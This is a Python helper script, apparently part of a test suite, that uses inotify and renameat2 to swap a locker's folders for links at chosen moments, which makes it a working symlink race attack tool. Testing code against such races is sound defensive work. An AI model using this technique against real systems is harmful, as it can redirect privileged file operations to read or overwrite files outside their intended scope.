"""A user who owns the folders of a locker and exchanges them for links, each in one step and at the moment of his choice.

exchange-attacker.py exchange UID COUNT:FOLDER:LINK...   as that user, exchanges each FOLDER and LINK when COUNT things
                                                         have happened in FOLDER
exchange-attacker.py now ONE OTHER                       exchanges them at once
exchange-attacker.py watch FOLDER...                     prints the path of every file that is opened, made or removed

Prints "ready" first, and "exchanged FOLDER" when it has done so. Node can neither do the one (renameat2) nor see the
other (inotify tells of what is opened).
"""

import ctypes
import os
import struct
import sys

IN_CREATE, IN_DELETE, IN_OPEN, IN_MOVED = 0x100, 0x200, 0x20, 0xC0
AT_FDCWD, RENAME_EXCHANGE = -100, 2

libc = ctypes.CDLL(None, use_errno=True)


def check(result):
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def events(folders):
    """What happens in folders, as it happens: which folder, and the name of a file, empty for the folder itself."""
    fd = check(libc.inotify_init())
    mask = IN_OPEN | IN_CREATE | IN_DELETE | IN_MOVED
    watched = {check(libc.inotify_add_watch(fd, os.fsencode(folder), mask)): folder for folder in folders}
    print("ready", flush=True)
    while True:
        data, at = os.read(fd, 1 << 16), 0
        while at < len(data):
            watch, _, _, length = struct.unpack_from("iIII", data, at)
            yield watched[watch], data[at + 16 : at + 16 + length].rstrip(b"\0").decode()
            at += 16 + length


def exchange(one, other):
    check(libc.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE))


def attack(uid, *plans):
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    left = {folder: [int(count), link] for count, folder, link in (plan.split(":") for plan in plans)}
    for folder, _ in events(list(left)):
        left[folder][0] -= 1
        if left[folder][0] == 0:
            try:
                exchange(folder, left[folder][1])
            except FileNotFoundError:
                continue  # What was attacked has removed it.
            print("exchanged " + folder, flush=True)


def watch(*folders):
    for folder, name in events(folders):
        if name:
            print(folder + "/" + name, flush=True)


{"exchange": attack, "now": exchange, "watch": watch}[sys.argv[1]](*sys.argv[2:])
